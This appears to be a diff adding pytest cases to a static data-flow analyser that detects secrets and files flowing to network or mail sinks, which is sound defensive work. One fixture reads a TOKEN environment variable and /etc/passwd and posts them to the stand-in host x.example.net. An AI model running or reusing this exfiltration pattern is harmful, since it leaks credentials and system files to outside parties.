@@ -222,3 +222,31 @@ def test_flows_and_risks_inside_a_command_are_stated_at_the_python_call(
     assert flow.source in facts.evidence and flow.sink in facts.evidence
     assert flow.steps[0].what == "piped into curl"
     assert facts.risks == (Risk("shell-pipe", Location(FILE, 2, 1), text),)
+
+
+@pytest.mark.parametrize("source", examples()["mutators"])
+def test_catalog_mutators_put_data_into_their_receiver(source: str) -> None:
+    kinds = {(f.source.capability.kind, f.sink.capability.kind) for f in extract(source).flows}
+    assert ("env.read", "net.connect") in kinds or ("env.read", "mail.send") in kinds
+
+
+def test_a_secret_stored_in_a_header_then_sent() -> None:
+    source = ("import os, requests\n"
+              "headers = {'Accept': 'application/json'}\n"
+              "headers['Authorization'] = 'Bearer ' + os.environ['TOKEN']\n"
+              "body = ''\n"
+              "body += open('/etc/passwd').read()\n"
+              "requests.post('https://x.example.net', headers=headers, data=body)\n")
+    facts = extract(source)
+    assert {_brief(f) for f in facts.flows} == {
+        ("env.read(TOKEN)", 3, "net.connect(x.example.net)", 6, (3,)),
+        ("fs.read(/etc/passwd)", 5, "net.connect(x.example.net)", 6, (5,))}
+    assert {f.steps[0].what for f in facts.flows} == {"stored in headers", "stored in body"}
+
+
+def test_setting_the_environment_is_not_storing_into_a_module() -> None:
+    source = ("import os, requests\n"
+              "os.environ['GIT_TOKEN'] = os.environ['T']\n"
+              "os.system('git push')\n")
+    assert "net.connect(*)" in {str(e.capability) for e in extract(source).evidence}
+    assert flows(source) == set()
